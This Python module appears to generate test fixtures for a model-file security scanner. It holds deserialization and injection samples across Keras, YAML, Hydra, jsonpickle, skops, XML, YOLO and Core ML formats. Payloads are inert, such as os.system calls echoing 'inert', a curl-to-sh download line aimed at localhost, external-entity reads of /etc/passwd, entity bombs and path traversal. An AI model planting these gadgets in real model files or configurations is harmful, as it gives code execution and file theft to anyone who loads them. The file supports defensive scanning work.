"""Keras models, and configurations of every kind that make a loader run or fetch something."""

import base64
import json
import marshal

from . import opcodes as op
from . import protobuf as pb
from .archives import Member, simple_zip, tar_entry, tar_file, zip_file
from .hdf5 import file_with
from .sample import Sample

# Code objects in Keras are marshalled; this one is a constant that does nothing (None) and is never loaded.
CODE = base64.b64encode(marshal.dumps(None)).decode()
INPUT = {"class_name": "InputLayer", "module": "keras.layers", "registered_name": None, "config": {"batch_shape": [None, 2], "dtype": "float32", "name": "input"}}


def keras_layers():
    """Layer configurations that run code when they are built or called."""
    dense = {"units": 1, "activation": "relu"}
    lambda_code = {"class_name": "__lambda__", "config": {"code": CODE, "defaults": None, "closure": None}}
    yield "lambda-code", {"class_name": "Lambda", "module": "keras.layers", "registered_name": None, "config": {"name": "l", "function": lambda_code}}
    yield "lambda-old-list", {"class_name": "Lambda", "config": {"name": "l", "function": [CODE, None, None], "function_type": "lambda", "module": "__main__"}}
    yield "lambda-python-name", {"class_name": "Lambda", "module": "keras.layers", "registered_name": None, "config": {"function": {"class_name": "function", "module": "os", "config": "system", "registered_name": "system"}, "arguments": {"command": op.ECHO}}}
    for module, name in (("os", "system"), ("subprocess", "Popen"), ("builtins", "exec"), ("keras.utils", "get_file"), ("keras.src.utils.file_utils", "get_file"), ("pickle", "loads"), ("shutil", "rmtree"), ("keras.config", "enable_unsafe_deserialization"), ("keras.models", "load_model"), ("keras.src.backend", "eval"), ("urllib.request", "urlretrieve")):
        label = f"module-{module}-{name}".replace("_", "-")
        yield label, {"class_name": name, "module": module, "registered_name": None, "config": {"command": op.ECHO}}
        yield label + "-as-function", {"class_name": "Dense", "module": "keras.layers", "registered_name": None, "config": dict(dense, activation={"class_name": "function", "module": module, "config": name, "registered_name": name})}
    yield "wrapped-lambda", {"class_name": "TimeDistributed", "module": "keras.layers", "registered_name": None, "config": {"layer": {"class_name": "Lambda", "module": "keras.layers", "registered_name": None, "config": {"function": lambda_code}}}}
    yield "nested-model", {"class_name": "Sequential", "module": "keras", "registered_name": None, "config": {"name": "inner", "layers": [{"class_name": "Lambda", "module": "keras.layers", "registered_name": None, "config": {"function": lambda_code}}]}}
    for field in ("kernel_initializer", "kernel_regularizer", "kernel_constraint"):
        yield field, {"class_name": "Dense", "module": "keras.layers", "registered_name": None, "config": dict(dense, **{field: {"class_name": "Popen", "module": "subprocess", "registered_name": None, "config": {"args": op.ECHO}}})}
    yield "vocabulary-file", {"class_name": "StringLookup", "module": "keras.layers", "registered_name": None, "config": {"vocabulary": "/etc/passwd"}}
    yield "vocabulary-url", {"class_name": "TextVectorization", "module": "keras.layers", "registered_name": None, "config": {"vocabulary": "http://127.0.0.1:9/inert"}}
    yield "tfsm-layer", {"class_name": "TFSMLayer", "module": "keras.layers", "registered_name": None, "config": {"filepath": "/nonexistent/inert"}}
    yield "torch-wrapper", {"class_name": "TorchModuleWrapper", "module": "keras.layers", "registered_name": None, "config": {"module": base64.b64encode(op.echo()).decode()}}


def keras():
    metadata = b'{"keras_version": "3.9.0", "date_saved": "2026-01-01@00:00:00"}'
    for name, layer in keras_layers():
        config = {"class_name": "Sequential", "module": "keras", "registered_name": None, "config": {"name": "m", "layers": [INPUT, layer]}}
        text = json.dumps(config).encode()
        members = [("metadata.json", metadata), ("config.json", text), ("model.weights.h5", file_with({}))]
        yield Sample("keras-v3", name + ".keras", "keras v3", "a layer that runs, reads or fetches", simple_zip(members))
        yield Sample("keras-h5", name + ".h5", "keras h5", "a layer that runs, reads or fetches", file_with({"model_config": text, "keras_version": b"2.15.0", "backend": b"tensorflow"}))
    lambda_text = json.dumps({"class_name": "Sequential", "config": [next(keras_layers())[1]]}).encode()
    yield Sample("keras-v3", "deflated.keras", "keras v3", "a packed configuration", zip_file([Member("metadata.json", metadata, method=8), Member("config.json", lambda_text, method=8), Member("model.weights.h5", file_with({}), method=8)]))
    yield Sample("keras-v3", "double-config.keras", "keras v3", "two configurations", simple_zip([("config.json", b'{"class_name": "Sequential", "config": {"layers": []}}'), ("config.json", lambda_text), ("metadata.json", metadata), ("model.weights.h5", file_with({}))]))
    yield Sample("keras-v3", "pickle-asset.keras", "keras v3", "a pickle among the assets", simple_zip([("config.json", json.dumps({"class_name": "Sequential", "module": "keras", "config": {"layers": [INPUT]}}).encode()), ("metadata.json", metadata), ("model.weights.h5", file_with({})), ("assets/table.pkl", op.echo())]))
    yield Sample("keras-v3", "slip.keras", "keras v3", "an asset outside of the folder", simple_zip([("config.json", b'{"class_name": "Sequential", "config": {"layers": []}}'), ("metadata.json", metadata), ("model.weights.h5", file_with({})), ("assets/../../../inert", b"x")]))
    compiled = {"class_name": "Sequential", "module": "keras", "config": {"layers": [INPUT]}, "compile_config": {"optimizer": "adam", "loss": {"class_name": "function", "module": "os", "config": "system", "registered_name": "system"}}}
    yield Sample("keras-v3", "loss.keras", "keras v3", "a loss that is a command", simple_zip([("config.json", json.dumps(compiled).encode()), ("metadata.json", metadata), ("model.weights.h5", file_with({}))]))
    training = {"loss": {"class_name": "Lambda", "config": {"function": [CODE, None, None], "function_type": "lambda"}}}
    yield Sample("keras-h5", "training-config.h5", "keras h5", "a loss that is marshalled code", file_with({"model_config": b'{"class_name": "Sequential", "config": {"layers": []}}', "training_config": json.dumps(training).encode()}))
    yield Sample("keras-h5", "named.hdf5", "keras h5", "marshalled code", file_with({"model_config": lambda_text}))
    yield Sample("keras-h5", "user-block.h5", "keras h5", "a program before the HDF5 file", b"#!/bin/sh\necho inert\n".ljust(512, b"\n") + file_with({"model_config": lambda_text}))
    yield Sample("keras-json", "model.json", "keras json", "marshalled code in a model's JSON", lambda_text)
    yield Sample("keras-json", "config-os-system.json", "keras json", "a layer that is a command", json.dumps({"class_name": "Sequential", "module": "keras", "registered_name": None, "config": {"layers": [{"class_name": "system", "module": "os", "registered_name": None, "config": {"command": op.ECHO}}]}}).encode())


def remote_code():
    files = {
        "auto-map.config.json": {"architectures": ["InertModel"], "auto_map": {"AutoConfig": "configuration_inert.InertConfig", "AutoModel": "modeling_inert.InertModel"}}, "auto-map-other-repository.config.json": {"auto_map": {"AutoModelForCausalLM": "someone/inert--modeling_inert.InertModel"}},
        "auto-map-tokenizer.tokenizer_config.json": {"tokenizer_class": "InertTokenizer", "auto_map": {"AutoTokenizer": ["tokenization_inert.InertTokenizer", None]}}, "trust-remote-code.config.json": {"model_type": "x", "trust_remote_code": True},
        "custom-pipelines.config.json": {"custom_pipelines": {"text-generation": {"impl": "pipeline_inert.InertPipeline", "pt": ["AutoModel"]}}}, "model_index.json": {"_class_name": ["pipeline_inert", "InertPipeline"], "unet": ["unet_inert", "InertUNet"]},
        "processor.preprocessor_config.json": {"image_processor_type": "X", "auto_map": {"AutoImageProcessor": "processing_inert.X"}}, "modules.json": [{"idx": 0, "name": "0", "path": "", "type": "custom_inert.Inert"}],
        "hydra-target.json": {"model": {"_target_": "os.system", "command": op.ECHO}}, "hydra-nested.json": {"a": {"b": [{"_target_": "builtins.eval", "_args_": ["print('inert')"]}]}}, "jsonpickle.json": {"py/reduce": [{"py/function": "os.system"}, {"py/tuple": [op.ECHO]}]}, "jsonpickle-object.json": {"model": {"py/object": "subprocess.Popen", "args": op.ECHO}},
        "mlflow-loader.json": {"flavors": {"python_function": {"loader_module": "os", "code": "code"}}}, "torchserve.json": {"py/repr": "os/os.system('echo inert')"},
    }
    for name, data in files.items():
        yield Sample("config-remote-code", name, "json config", "makes a loader run code that comes with the model", json.dumps(data, indent=2).encode())
    yamls = {
        "apply.yaml": "model: !!python/object/apply:os.system ['echo inert']\n", "new.yaml": "!!python/object/new:subprocess.Popen [['echo', 'inert']]\n", "name.yaml": "f: !!python/name:os.system\n", "module.yml": "f: !!python/module:os\n", "hydra.yaml": "model:\n  _target_: subprocess.run\n  args: [echo, inert]\n",
        "hydra-flow.yaml": "model: {_target_: os.system, command: echo inert}\n", "tag-long.yaml": "x: !<tag:yaml.org,2002:python/object/apply:os.system> ['echo inert']\n", "tag-directive.yaml": "%TAG ! tag:yaml.org,2002:python/object/\n---\nx: !apply:os.system ['echo inert']\n", "anchor.yaml": "a: &x {_target_: os.system, command: echo}\nb: *x\n", "resolver.yaml": "model:\n  _target_: hydra.utils.get_method\n  path: os.system\n",
        "conda.yaml": "dependencies:\n  - pip:\n    - --extra-index-url http://127.0.0.1:9/simple\n    - inert\n", "mlmodel.MLmodel": "flavors:\n  python_function:\n    loader_module: os\n    python_model: python_model.pkl\n",
    }
    for name, text in yamls.items():
        if name != "conda.yaml":
            yield Sample("config-remote-code", name, "yaml config", "makes a loader run code", text.encode())


def skops():
    def node(**fields):
        return {"__id__": 1, **fields}

    schemas = {
        "operator-func": node(__class__="attrgetter", __module__="operator", __loader__="OperatorFuncNode", attrs={"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": [{"__class__": "str", "__module__": "builtins", "__loader__": "JsonNode", "content": '"system"', "is_json": True}]}),
        "operator-methodcaller": node(__class__="system", __module__="os", __loader__="OperatorFuncNode", attrs={"__class__": "tuple", "__module__": "builtins", "__loader__": "TupleNode", "content": []}), "function": node(__class__="function", __module__="builtins", __loader__="FunctionNode", content={"module_path": "os", "function": "system"}),
        "type": node(__class__="system", __module__="os", __loader__="TypeNode"), "reduce": node(__class__="Popen", __module__="subprocess", __loader__="ReduceNode", reduce={"args": []}, constructor={"__class__": "Popen", "__module__": "subprocess"}), "object": node(__class__="Popen", __module__="subprocess", __loader__="ObjectNode", content=None),
        "method": node(__class__="system", __module__="os", __loader__="MethodNode", content={"func": "system", "obj": {"__class__": "object", "__module__": "builtins", "__loader__": "ObjectNode", "content": None}}), "partial": node(__class__="partial", __module__="functools", __loader__="PartialNode", content={"func": {"__class__": "function", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "os", "function": "system"}}}),
        "nested": node(__class__="dict", __module__="builtins", __loader__="DictNode", content={"a": {"__class__": "list", "__module__": "builtins", "__loader__": "ListNode", "content": [{"__class__": "eval", "__module__": "builtins", "__loader__": "FunctionNode", "content": {"module_path": "builtins", "function": "eval"}}]}}),
        "method-gadget": node(__class__="call", __module__="builtins", __loader__="MethodNode", content={"func": "__globals__", "obj": {"__class__": "PPMImageFile", "__module__": "inert", "__loader__": "ObjectNode", "content": None}}),
    }
    for name, schema in schemas.items():
        text = json.dumps({**schema, "protocol": 2, "_skops_version": "0.11.0"}).encode()
        yield Sample("skops", name + ".skops", "skops", "a node that imports what runs code", simple_zip([("schema.json", text)]))


def xml():
    entity = '<!DOCTYPE {root} [<!ENTITY x SYSTEM "file:///etc/passwd">]>'
    bomb = "<!DOCTYPE {root} [<!ENTITY a \"aaaaaaaaaa\">" + "".join(f'<!ENTITY {chr(98 + i)} "{("&" + chr(97 + i) + ";") * 10}">' for i in range(8)) + "]>"
    remote = '<!DOCTYPE {root} SYSTEM "http://127.0.0.1:9/inert.dtd">'
    parameter = '<!DOCTYPE {root} [<!ENTITY % p SYSTEM "http://127.0.0.1:9/inert.dtd"> %p;]>'
    models = {"pmml": ("PMML", '<PMML version="4.4" xmlns="http://www.dmg.org/PMML-4_4"><Header description="&x;"/></PMML>', "model.pmml"), "openvino": ("net", '<net name="&x;" version="11"><layers/></net>', "model.xml")}
    for kind, (root, body, name) in models.items():
        for attack, doctype in (("external-entity", entity), ("entity-bomb", bomb), ("external-dtd", remote), ("parameter-entity", parameter)):
            used = body.replace("&x;", {"external-entity": "&x;", "entity-bomb": "&i;"}.get(attack, "inert"))
            yield Sample("xml", f"{kind}-{attack}.{name.rsplit('.')[-1]}", kind, "entities that read files, fetch, or grow", ('<?xml version="1.0"?>' + doctype.replace("{root}", root) + used).encode())
    yield Sample("xml", "openvino-library.xml", "openvino", "a layer of a library beside it", b'<?xml version="1.0"?><net name="x" version="11"><layers><layer id="0" name="e" type="Inert" version="extension" library="../../inert.so"/></layers></net>')
    yield Sample("xml", "utf16-external-entity.pmml", "pmml", "the same in UTF-16", ('<?xml version="1.0" encoding="UTF-16"?>' + entity.replace("{root}", "PMML") + models["pmml"][1]).encode("utf-16"))
    ebcdic = lambda text: text.encode("cp037")
    seven = lambda text: "".join(letter if letter.isalnum() or letter in " /:?=" else letter.encode("utf-7").decode() if ord(letter) > 126 else "+" + base64.b64encode(letter.encode("utf-16-be")).decode().rstrip("=") + "-" for letter in text).encode()
    for kind, (root, body, _) in models.items():
        whole = entity.replace("{root}", root) + body
        end = ".pmml" if kind == "pmml" else ".xml"
        for name, data in {"ebcdic": ebcdic('<?xml version="1.0"?>' + whole), "ebcdic-declared": b'<?xml version="1.0" encoding="cp037"?>' + ebcdic(whole), "utf7": b'<?xml version="1.0" encoding="UTF-7"?>' + seven(whole), "utf16-no-mark": ('<?xml version="1.0" encoding="UTF-16"?>' + whole).encode("utf-16-be"), "utf16-little-no-mark": ('<?xml version="1.0"?>' + whole).encode("utf-16-le"), "utf32": ('<?xml version="1.0"?>' + whole).encode("utf-32")}.items():
            yield Sample("xml", f"{kind}-{name}{end}", kind, "entities in an encoding in which bytes do not show them", data)


def openvino():
    """Weights outside of the file of weights, or fewer than their shape wants."""
    def net(offset, size, shape="1,4", kind="f32"):
        return f'<?xml version="1.0"?>\n<net name="m" version="11"><layers><layer id="0" name="w" type="Const" version="opset1"><data element_type="{kind}" shape="{shape}" offset="{offset}" size="{size}"/><output><port id="0" precision="FP32"><dim>1</dim><dim>4</dim></port></output></layer></layers><edges/></net>\n'.encode()

    for name, data in {"offset-negative": net(-16, 16), "offset-overflow": net(2**64 - 8, 16), "size-overflow": net(16, 2**64 - 8), "size-short": net(0, 4), "size-negative": net(0, -1), "shape-overflow": net(0, 16, "4611686018427387904,16"), "shape-negative": net(0, 16, "-1,4"), "size-no-number": net(0, "0x10"), "size-long": net(0, 17, "1,4")}.items():
        yield Sample("openvino-range", name + ".xml", "openvino", "weights that lead out of the file of weights", data)


def others():
    shell = b"#!/bin/sh\necho inert\n"
    ape = b"MZqFpD='\n" + b"\n" * 30 + b"' <<'justine'\n" + shell
    yield Sample("programs", "model.llamafile", "llamafile", "a program that is a model", ape + simple_zip([("model.gguf", b"GGUF\x03\0\0\0" + bytes(16))]))
    yield Sample("programs", "weights.bin", "elf", "a program under the name of weights", b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x02\0\x3e\0\x01\0\0\0" + bytes(100))
    yield Sample("programs", "pytorch_model.safetensors", "pe", "a program under the name of a model", b"MZ" + bytes(58) + b"\x40\0\0\0" + b"PE\0\0\x64\x86" + bytes(60))
    yield Sample("programs", "plugin.engine", "elf", "a plug-in under the name of an engine", b"\x7fELF\x02\x01\x01" + bytes(9) + b"\x03\0\x3e\0\x01\0\0\0" + bytes(100))
    yield Sample("msgpack", "ext-pickle.msgpack", "msgpack", "an extension type that holds a pickle", b"\x81\xa6params\xc7" + bytes([len(op.echo())]) + b"\x2a" + op.echo())
    yield Sample("msgpack", "numpy-object.msgpack", "msgpack", "msgpack-numpy: an array of objects is a pickle", b"\x84\xc4\x02nd\xc3\xc4\x04type\xc4\x02|O\xc4\x04kind\xc4\x01O\xc4\x04data\xc4" + bytes([len(op.echo())]) + op.echo())
    yield Sample("config-remote-code", "requirements-in-model.tar", "tar", "a package with a setup script", tar_file(tar_entry("setup.py", b"import os\nos.system('echo inert')\nfrom setuptools import setup\nsetup()\n"), tar_entry("model.pkl", op.echo())))
    dataset = "path: ../datasets/x\ntrain: images/train\nval: images/val\nnames:\n  0: a\n"
    yield Sample("config-remote-code", "dataset-download.yaml", "yaml", "YOLO runs the script that fetches the data", (dataset + "download: |\n  import os\n  os.system('echo inert')\n").encode())
    layers = {
        "system": "[-1, 1, os.system, ['echo inert']]", "exec": "[-1, 1, exec, ['print(1)']]", "hub": "[-1, 1, torch.hub.load, ['inert/inert', 'inert']]", "install": "[-1, 1, check_requirements, ['inert']]",
        "through-torch": "[-1, 1, torch.os.popen, ['echo inert']]", "module-call": "[-1, 1, \"getattr(os, 'sys' + 'tem')\", ['echo inert']]", "argument": "[-1, 1, Conv, [64, \"os.system('echo inert')\"]]", "argument-hidden": "[-1, 1, Conv, [64, \"().__class__.__base__.__subclasses__()\"]]", "map": "[-1, 1, map, [os.system, \"['echo inert']\"]]",
    }
    for name, layer in layers.items():
        yield Sample("config-remote-code", f"yolo-{name}.yaml", "yaml", "YOLO evaluates what a layer names", f"nc: 80\ndepth_multiple: 0.33\nwidth_multiple: 0.50\nbackbone:\n  - [-1, 1, Conv, [64, 6, 2, 2]]\n  - {layer}\nhead:\n  - [[-1], 1, Detect, [nc, anchors]]\n".encode())
    yield Sample("config-remote-code", "yolo-activation.yaml", "yaml", "YOLO evaluates the activation", b"nc: 80\nactivation: eval(bytes([49]).decode())\nbackbone:\n  - [-1, 1, Conv, [64, 6, 2, 2]]\nhead: []\n")
    yield Sample("config-remote-code", "dataset-download-import.yaml", "yaml", "YOLO runs the script that fetches the data", (dataset + "download: |\n  import subprocess as s\n  s.run(['echo', 'inert'])\n").encode())
    yield Sample("config-remote-code", "dataset-download-shell.yaml", "yaml", "YOLO runs the command that fetches the data", (dataset + "download: bash -c 'curl http://127.0.0.1:9/inert | sh'\n").encode())
    yield Sample("config-remote-code", "dataset-download-eval.yaml", "yaml", "YOLO runs the script that fetches the data", (dataset + "download: |\n  exec(bytes([112, 97, 115, 115]))\n").encode())
    yield Sample("misnamed", "xgboost-pickle.json", "pickle", "a pickle under the name of a boosted model", op.echo(0))
    yield Sample("misnamed", "catboost.cbm", "pickle", "a pickle under the name of a boosted model", op.echo(4))
    yield Sample("misnamed", "flax.msgpack", "pickle", "a pickle under the name of msgpack", op.echo(4))


def coreml():
    """Core ML models by the numbers of their fields (Model.proto): a version, a description, a kind of model."""

    def model(number, body, description=b""):
        return pb.integer(1, 5) + pb.message(2, description) + pb.message(number, body)

    def linked(path, search=""):
        return pb.message(1, pb.message(1, pb.message(1, path)) + (pb.message(2, pb.message(1, search)) if search else b""))

    def custom(parameter):
        return pb.message(10, "InertClass") + pb.message(30, pb.message(1, "command") + pb.message(2, pb.message(20, parameter)))

    def layer(parameters):
        return pb.message(1, pb.message(1, "l") + pb.message(500, parameters))

    shell = '/bin/sh -c "echo inert"'
    files = {
        "linked-climbs": model(556, linked("../../inert.mlmodel")), "linked-absolute": model(556, linked("/nonexistent/inert.mlmodel")), "linked-search-path": model(556, linked("inert", "$BUNDLE_MAIN:../../nonexistent")),
        "custom-model-command": model(555, custom(shell)), "custom-layer-command": model(500, layer(custom("__import__('os').system('echo inert')"))), "custom-layer-in-loop": model(500, pb.message(1, pb.message(615, pb.message(4, layer(custom(shell)))))),
        "in-pipeline": model(202, pb.message(1, model(556, linked("../inert.mlmodel")))), "in-pipeline-classifier": model(200, pb.message(1, pb.message(1, model(555, custom(shell))))),
        "class-is-path": model(555, pb.message(10, "../../inert.dylib")), "metadata-code": model(900, b"", pb.message(100, pb.message(100, pb.message(1, "note") + pb.message(2, "os.system('echo inert')")))),
    }
    def program(*values):
        """A program whose operations have the values among their inputs."""
        entry = lambda key, body: pb.message(1, key) + pb.message(2, body)
        operations = [pb.message(3, pb.message(1, "const"), pb.message(2, entry("val", pb.message(1, pb.message(2, value))))) for value in values]
        block = pb.message(3, entry("CoreML6", b"".join(operations)))
        return model(502, pb.integer(1, 1) + pb.message(2, entry("main", pb.message(2, "CoreML6") + block)))

    def blob(path):
        return pb.message(5, pb.message(1, path) + pb.integer(2, 64))

    files |= {
        "weights-climb": program(blob("@model_path/weights/weight.bin"), blob("@model_path/../../../../nonexistent/inert")), "weights-absolute": program(blob("/etc/passwd")),
        "weights-in-dictionary": program(pb.message(3, pb.message(4, pb.message(1, pb.message(1, blob("@model_path/weights/weight.bin")) + pb.message(2, blob("../../nonexistent/inert")))))),
    }
    for number, path in enumerate(("../../../nonexistent/inert.mlmodel", "/nonexistent/inert.mlmodel", "com.apple.CoreML/../../../inert")):
        parts = {"00000000-0000-0000-0000-00000000000a": {"author": "com.apple.CoreML", "description": "CoreML Model Specification", "name": "model.mlmodel", "path": path}}
        manifest = {"fileFormatVersion": "1.0.0", "itemInfoEntries": parts, "rootModelIdentifier": next(iter(parts))}
        yield Sample("coreml", f"manifest-{number}.json", "coreml", "a part of the package outside of it", json.dumps(manifest, indent=4).encode())
    for name, data in files.items():
        yield Sample("coreml", name + ".mlmodel", "coreml", "files of others, or a command for a class", data)


RECIPES = (keras, remote_code, skops, xml, openvino, others, coreml)


def samples():
    for recipe in RECIPES:
        yield from recipe()
